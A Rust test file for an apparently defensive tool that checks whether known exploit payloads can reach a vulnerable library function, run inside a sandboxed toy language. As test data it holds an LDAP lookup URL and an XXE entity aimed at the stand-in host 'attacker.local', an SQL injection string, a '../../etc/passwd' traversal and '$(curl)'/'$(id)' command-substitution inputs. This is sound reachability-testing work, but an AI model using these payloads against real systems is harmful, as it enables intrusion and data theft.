use super::*;
use crate::extract::ExploitPayload;
use crate::instrument::{run_instrumented, RunOptions};
use crate::interp::{Budgets, OutcomeKind, Sandbox, Value, ValueKind};
use crate::test_case::TestCase;
use crate::vex::{ModuleKind, Program, ProgramBuilder, QualifiedName, SourceUnit};

fn program(project: &str, lib: &str) -> Program {
    let mut b = ProgramBuilder::new();
    b.add_source(ModuleKind::Project, &SourceUnit::new("app", project, "app.vex"));
    b.add_source(ModuleKind::Library, &SourceUnit::new("lib", lib, "lib.vex"));
    b.build().unwrap()
}

fn q(s: &str) -> QualifiedName {
    s.parse().unwrap()
}

fn payload(v: Value) -> ExploitPayload {
    ExploitPayload {
        values: vec![v],
        primary_index: 0,
        source: "t".into(),
    }
}

fn ctx(kind: TriggerKind) -> TriggerContext {
    TriggerContext::new(
        TriggerCondition {
            kind,
            oracle: None,
            sql_pattern: None,
        },
        "attacker.local",
    )
    .unwrap()
}

fn run(p: &Program, entry: &str, args: Vec<Value>, target: &str) -> crate::instrument::InstrumentedRun {
    run_instrumented(
        p,
        &TestCase::new(q(entry), args),
        &q(target),
        None,
        Budgets::default(),
        &Sandbox::new("/nonexistent"),
        RunOptions::default(),
    )
    .unwrap()
}

fn env(root: &std::path::Path) -> RuleEnv<'_> {
    RuleEnv {
        attacker_host: "attacker.local",
        sandbox_root: root,
    }
}

#[test]
fn trigger_examples() {
    let p = program(
        "pub fn e(u) { return lib::lookup(u); }",
        "pub fn lookup(u) { @net_send(u, \"\"); return 1; }",
    );
    let r = run(&p, "app::e", vec![Value::str("ldap://attacker.local/exploit")], "lib::lookup");
    let ev = detect_trigger(&r, &ctx(TriggerKind::Rce)).unwrap();
    assert_eq!(ev.len(), 1);
    assert!(matches!(&ev[0], Evidence::Net(n) if n.url == "ldap://attacker.local/exploit"));
    assert!(detect_trigger(&r, &ctx(TriggerKind::WrongBehavior)).is_some());
    assert!(detect_trigger(&r, &ctx(TriggerKind::DosUncaughtException)).is_none());

    let r = run(&p, "app::e", vec![Value::str("ldap://ATTACKER.local:389/x")], "lib::lookup");
    assert!(detect_trigger(&r, &ctx(TriggerKind::Xxe)).is_some());
    let r = run(&p, "app::e", vec![Value::str("ldap://attacker.local.evil/x")], "lib::lookup");
    assert!(detect_trigger(&r, &ctx(TriggerKind::Rce)).is_none());
}

#[test]
fn dos_triggers_need_the_vulnerable_function() {
    let p = program(
        r#"
pub fn e(n) { if n == 0 { throw "local"; } if n == 1 { while true {} } return lib::v(n); }
"#,
        r#"
pub fn v(n) { if n == 2 { throw "boom"; } if n == 3 { while true {} } if n == 4 { return v(n); } return n; }
"#,
    );
    let r0 = run(&p, "app::e", vec![Value::Int(0)], "lib::v");
    assert!(matches!(r0.outcome.kind, OutcomeKind::UncaughtException { .. }));
    assert!(detect_trigger(&r0, &ctx(TriggerKind::DosUncaughtException)).is_none());
    let r1 = run(&p, "app::e", vec![Value::Int(1)], "lib::v");
    assert!(detect_trigger(&r1, &ctx(TriggerKind::DosInfiniteLoop)).is_none());
    let r2 = run(&p, "app::e", vec![Value::Int(2)], "lib::v");
    let ev = detect_trigger(&r2, &ctx(TriggerKind::DosUncaughtException)).unwrap();
    assert!(matches!(&ev[0], Evidence::Outcome { message: Some(m), .. } if m == "boom"));
    assert!(detect_trigger(&r2, &ctx(TriggerKind::WrongBehavior)).is_none());
    let r3 = run(&p, "app::e", vec![Value::Int(3)], "lib::v");
    assert!(detect_trigger(&r3, &ctx(TriggerKind::DosInfiniteLoop)).is_some());
    assert!(detect_trigger(&r3, &ctx(TriggerKind::DosStackOverflow)).is_none());
    let r4 = run(&p, "app::e", vec![Value::Int(4)], "lib::v");
    assert!(detect_trigger(&r4, &ctx(TriggerKind::DosStackOverflow)).is_some());
}

#[test]
fn caught_exceptions_do_not_count() {
    let p = program(
        "pub fn e(x) { try { lib::v(x); } catch err { return 0; } return 1; }",
        "pub fn v(x) { throw \"boom\"; }",
    );
    let r = run(&p, "app::e", vec![Value::Int(1)], "lib::v");
    assert!(detect_trigger(&r, &ctx(TriggerKind::DosUncaughtException)).is_none());
}

#[test]
fn oracles_and_sinks() {
    let p = program(
        r#"pub fn e(x) { return lib::auth(x); } pub fn f(path) { let h = @open(path); return lib::auth(1); }"#,
        r#"pub fn auth(x) { @sql_exec("SELECT * FROM u WHERE n = '" + x + "'"); return x == "admin"; }"#,
    );
    let mut c = ctx(TriggerKind::WrongBehavior);
    c.condition.oracle = Some(OracleSpec::ReturnEquals(Value::Bool(true)));
    let hit = run(&p, "app::e", vec![Value::str("admin")], "lib::auth");
    let miss = run(&p, "app::e", vec![Value::str("bob")], "lib::auth");
    assert!(detect_trigger(&hit, &c).is_some());
    assert!(detect_trigger(&miss, &c).is_none());
    c.condition.oracle = Some(OracleSpec::ReturnDiffers(Value::Bool(true)));
    assert!(detect_trigger(&miss, &c).is_some());

    let sqli = TriggerContext::new(
        TriggerCondition {
            kind: TriggerKind::Sqli,
            oracle: None,
            sql_pattern: Some("(?i)' OR '1'='1".into()),
        },
        "attacker.local",
    )
    .unwrap();
    assert!(detect_trigger(&miss, &sqli).is_none());
    let inj = run(&p, "app::e", vec![Value::str("x' or '1'='1")], "lib::auth");
    assert!(matches!(&detect_trigger(&inj, &sqli).unwrap()[0], Evidence::Sql(_)));

    let esc = run(&p, "app::f", vec![Value::str("../../etc/passwd")], "lib::auth");
    assert!(detect_trigger(&esc, &ctx(TriggerKind::PathTraversal)).is_none());
}

#[test]
fn trigger_names_round_trip() {
    for k in TriggerKind::ALL {
        assert_eq!(TriggerKind::from_name(k.name()), Some(k));
        assert_eq!(serde_json::to_string(&k).unwrap(), format!("\"{}\"", k.name()));
    }
    assert_eq!(TriggerKind::from_name("explode"), None);
}

#[test]
fn rule_examples() {
    let tmp = tempfile::tempdir().unwrap();
    let env = env(tmp.path());
    let int = MigrationRule::TypeConvert { target: ValueKind::Int };
    assert_eq!(apply_rule(&int, &Value::str("17"), &env).unwrap().value, Value::Int(17));
    assert!(apply_rule(&int, &Value::str("abc"), &env).is_none());
    let t = MigrationRule::template("{\"a\":{{PAYLOAD}}}").unwrap();
    assert_eq!(apply_rule(&t, &Value::str("1"), &env).unwrap().value, Value::str("{\"a\":1}"));
    assert!(MigrationRule::template("no hole").is_err());
    assert!(MigrationRule::template("{{PAYLOAD}}{{PAYLOAD}}").is_err());

    let f = apply_rule(&MigrationRule::FileMaterialize, &Value::str("EVIL"), &env).unwrap();
    let Value::File(fr) = &f.value else { panic!("expected a file") };
    assert_eq!(&*fr.content, "EVIL");
    assert_eq!(std::fs::read_to_string(tmp.path().join(&*fr.path)).unwrap(), "EVIL");
    let p = program("pub fn e(p) { return @read_file(@open(p)); }", "");
    let sb = Sandbox::new(tmp.path());
    let out = crate::interp::execute(&p, &q("app::e"), vec![Value::str(&*fr.path)], Budgets::default(), &mut crate::interp::NoHooks, &sb).unwrap();
    assert_eq!(out.kind, OutcomeKind::Returned { value: Value::str("EVIL") });
}

#[test]
fn type_conversions() {
    let tmp = tempfile::tempdir().unwrap();
    let env = env(tmp.path());
    let conv = |k: ValueKind, v: Value| apply_rule(&MigrationRule::TypeConvert { target: k }, &v, &env).map(|a| a.value);
    assert_eq!(conv(ValueKind::Float, Value::str(" 2.5")), Some(Value::Float(2.5)));
    assert_eq!(conv(ValueKind::Str, Value::Int(42)), Some(Value::str("42")));
    assert_eq!(conv(ValueKind::Str, Value::Float(1.0)), Some(Value::str("1.0")));
    assert_eq!(
        conv(ValueKind::List, Value::str("ab")),
        Some(Value::list(vec![Value::str("a"), Value::str("b")]))
    );
    assert_eq!(
        conv(ValueKind::Record, Value::str("x")),
        Some(Value::record([("value", Value::str("x"))]))
    );
    assert_eq!(conv(ValueKind::Int, Value::Int(3)), None);
    assert_eq!(conv(ValueKind::Int, Value::Float(2.5)), None);
    let path = conv(ValueKind::Str, Value::file("fixtures/a.xml", "<x/>")).unwrap();
    let path = path.as_str().unwrap();
    assert!(path.starts_with("tmp/payload-"));
    assert_eq!(std::fs::read_to_string(tmp.path().join(path)).unwrap(), "<x/>");
}

#[test]
fn marker_and_chains() {
    let tmp = tempfile::tempdir().unwrap();
    let env = env(tmp.path());
    assert!(apply_rule(&MigrationRule::MarkerSubstitute, &Value::str("plain"), &env).is_none());
    assert_eq!(
        apply_rule(&MigrationRule::MarkerSubstitute, &Value::str("ldap://{{ATTACKER}}/a"), &env).unwrap().value,
        Value::str("ldap://attacker.local/a")
    );
    let chain = [
        MigrationRule::AffixString {
            prefix: "cmd:".into(),
            suffix: String::new(),
        },
        MigrationRule::template("[{{PAYLOAD}}]").unwrap(),
    ];
    assert_eq!(apply_chain(&chain, &Value::str("x"), &env).unwrap().value, Value::str("[cmd:x]"));
    assert!(apply_chain(&chain, &Value::Int(1), &env).is_none());
}

fn spec<'a>(vulnerable: &'a QualifiedName, trigger: &'a TriggerContext, templates: &'a [String]) -> MigrationSpec<'a> {
    MigrationSpec {
        vulnerable,
        trigger,
        templates,
        manual: false,
    }
}

fn migrate_in(p: &Program, archive: &[TestCase], pl: &ExploitPayload, s: &MigrationSpec<'_>) -> TriggerReport {
    let tmp = tempfile::tempdir().unwrap();
    migrate(archive, pl, s, p, Budgets::default(), &Sandbox::new(tmp.path()))
}

#[test]
fn pass_through_stack_overflow_is_direct() {
    let p = program(
        "pub fn handle(body) { return lib::parse(body); }",
        r#"pub fn parse(s) { return value(s, 0); } fn value(s, i) { if @char_at(s, i) == "{" { return value(s, i + 1); } return i; }"#,
    );
    let nested = "{".repeat(600);
    let v = q("lib::parse");
    let c = ctx(TriggerKind::DosStackOverflow);
    let r = migrate_in(&p, &[TestCase::new(q("app::handle"), vec![Value::str("ab")])], &payload(Value::str(&nested)), &spec(&v, &c, &[]));
    assert_eq!(r.verdict, Verdict::Exploitable);
    let m = r.migrated_test.unwrap();
    assert!(m.rule_chain.is_empty());
    assert_eq!(m.substitution.position, 0);
    assert!(matches!(&r.evidence[0], Evidence::Outcome { outcome, .. } if outcome == "depth_budget_exceeded"));
    assert_eq!(r.received_similarity, 1.0);
    assert_eq!(r.call_path.unwrap().path, vec![q("app::handle"), q("lib::parse")]);
}

#[test]
fn annotation_forces_type_conversion() {
    let p = program(
        "pub fn f(x: int) { return lib::check(x + 0); }",
        r#"pub fn check(n) { if n == 42 { throw "bad"; } return n; }"#,
    );
    let v = q("lib::check");
    let c = ctx(TriggerKind::DosUncaughtException);
    let r = migrate_in(&p, &[TestCase::new(q("app::f"), vec![Value::Int(0)])], &payload(Value::str("42")), &spec(&v, &c, &[]));
    assert_eq!(r.verdict, Verdict::Exploitable);
    let m = r.migrated_test.unwrap();
    assert_eq!(m.rule_chain, vec![MigrationRule::TypeConvert { target: ValueKind::Int }]);
    assert_eq!(m.replay_case().args, vec![Value::Int(42)]);
}

const STRIP_PROJECT: &str = "pub fn f(x) { return lib::eval(@substr(x, 1, @len(x) - 2)); }";
const EVAL_LIB: &str = r#"pub fn eval(s) { if @starts_with(s, "$(") { throw "injected"; } return s; }"#;

#[test]
fn corpus_template_repairs_wrapping() {
    let p = program(STRIP_PROJECT, EVAL_LIB);
    let v = q("lib::eval");
    let c = ctx(TriggerKind::DosUncaughtException);
    let templates = vec!["{{PAYLOAD}}!".to_string(), "x{{PAYLOAD}}x".to_string()];
    let pl = payload(Value::str("$(curl)"));
    let archive = [TestCase::new(q("app::f"), vec![Value::str("hello")])];
    let r = migrate_in(&p, &archive, &pl, &spec(&v, &c, &templates));
    assert_eq!(r.verdict, Verdict::Exploitable);
    let chain = r.migrated_test.as_ref().unwrap().rule_chain.clone();
    assert_eq!(chain, vec![MigrationRule::template("x{{PAYLOAD}}x").unwrap()]);

    // Independent enumeration: among the corpus templates exactly one works,
    // judged by calling the library directly on what the entry would pass.
    let tmp = tempfile::tempdir().unwrap();
    let working: Vec<&String> = templates
        .iter()
        .filter(|t| {
            let val = apply_rule(&MigrationRule::template((*t).clone()).unwrap(), pl.primary(), &env(tmp.path())).unwrap().value;
            let s = val.as_str().unwrap();
            let inner: String = s.chars().skip(1).take(s.chars().count() - 2).collect();
            inner.starts_with("$(")
        })
        .collect();
    assert_eq!(working, vec![&templates[1]]);

    let again = migrate_in(&p, &archive, &pl, &spec(&v, &c, &templates));
    assert_eq!(again.migrated_test, r.migrated_test);
}

#[test]
fn traverses_positions() {
    let p = program(
        "pub fn f(a, b) { lib::eval(b); return a; }",
        EVAL_LIB,
    );
    let v = q("lib::eval");
    let c = ctx(TriggerKind::DosUncaughtException);
    let archive = [TestCase::new(q("app::f"), vec![Value::str("p"), Value::str("q")])];
    let r = migrate_in(&p, &archive, &payload(Value::str("$(id)")), &spec(&v, &c, &[]));
    assert_eq!(r.verdict, Verdict::Exploitable);
    assert_eq!(r.migrated_test.unwrap().substitution.position, 1);
}

#[test]
fn sanitizer_yields_near_miss() {
    let p = program(
        r#"pub fn f(x) { if @contains(x, "$") { x = "safe"; } return lib::eval(x); }"#,
        EVAL_LIB,
    );
    let v = q("lib::eval");
    let c = ctx(TriggerKind::DosUncaughtException);
    let archive = [TestCase::new(q("app::f"), vec![Value::str("hello")])];
    let r = migrate_in(&p, &archive, &payload(Value::str("$(safe)")), &spec(&v, &c, &[]));
    assert_eq!(r.verdict, Verdict::NotExploitable);
    assert!(r.evidence.is_empty());
    assert!(r.received_similarity > 0.0 && r.received_similarity < 1.0);
    assert!(r.executions <= 1 + MAX_EXECUTIONS_PER_TEST, "{}", r.executions);
    assert!(r.migrated_test.is_some());
}

#[test]
fn manual_records_are_inconclusive() {
    let p = program("pub fn f(x) { return lib::eval(x); }", EVAL_LIB);
    let v = q("lib::eval");
    let c = ctx(TriggerKind::DosUncaughtException);
    let mut s = spec(&v, &c, &[]);
    s.manual = true;
    let r = migrate_in(&p, &[TestCase::new(q("app::f"), vec![Value::str("a")])], &payload(Value::str("$(x)")), &s);
    assert_eq!(r.verdict, Verdict::Inconclusive);
    assert!(!r.evidence.is_empty());
}

#[test]
fn file_payload_becomes_path() {
    let p = program(
        "pub fn load(path) { return lib::parse_xml(@open(path)); }",
        r#"pub fn parse_xml(f) { let s = @read_file(f); if @contains(s, "<!ENTITY") { @net_send("http://attacker.local/x", s); } return 1; }"#,
    );
    let v = q("lib::parse_xml");
    let c = ctx(TriggerKind::Xxe);
    let tmp = tempfile::tempdir().unwrap();
    std::fs::write(tmp.path().join("in.xml"), "<a/>").unwrap();
    let sb = Sandbox::new(tmp.path());
    let pl = payload(Value::file("fixtures/evil.xml", "<!ENTITY x SYSTEM 'http://attacker.local/'>"));
    let r = migrate(&[TestCase::new(q("app::load"), vec![Value::str("in.xml")])], &pl, &spec(&v, &c, &[]), &p, Budgets::default(), &sb);
    assert_eq!(r.verdict, Verdict::Exploitable);
    let m = r.migrated_test.unwrap();
    assert_eq!(m.rule_chain, vec![MigrationRule::TypeConvert { target: ValueKind::Str }]);
    assert_eq!(m.files.len(), 1);
    assert_eq!(r.received_similarity, 1.0);
}

#[test]
fn direct_trigger_does_not_substitute() {
    let p = program("pub fn f(x) { return lib::eval(x); }", EVAL_LIB);
    let v = q("lib::eval");
    let c = ctx(TriggerKind::DosUncaughtException);
    let s = spec(&v, &c, &[]);
    let pl = payload(Value::str("$(x)"));
    let tmp = tempfile::tempdir().unwrap();
    let sb = Sandbox::new(tmp.path());
    let benign = [TestCase::new(q("app::f"), vec![Value::str("abc")])];
    assert_eq!(direct_trigger(&benign, &pl, &s, &p, Budgets::default(), &sb).verdict, Verdict::NotExploitable);
    let lucky = [TestCase::new(q("app::f"), vec![Value::str("$(a")])];
    assert_eq!(direct_trigger(&lucky, &pl, &s, &p, Budgets::default(), &sb).verdict, Verdict::Exploitable);
}

#[test]
fn report_round_trips() {
    let p = program("pub fn f(x) { return lib::eval(x); }", EVAL_LIB);
    let v = q("lib::eval");
    let c = ctx(TriggerKind::DosUncaughtException);
    let r = migrate_in(&p, &[TestCase::new(q("app::f"), vec![Value::str("a")])], &payload(Value::str("$(x)")), &spec(&v, &c, &[]));
    let json = serde_json::to_string(&r).unwrap();
    let back: TriggerReport = serde_json::from_str(&json).unwrap();
    assert_eq!(back, r);
}
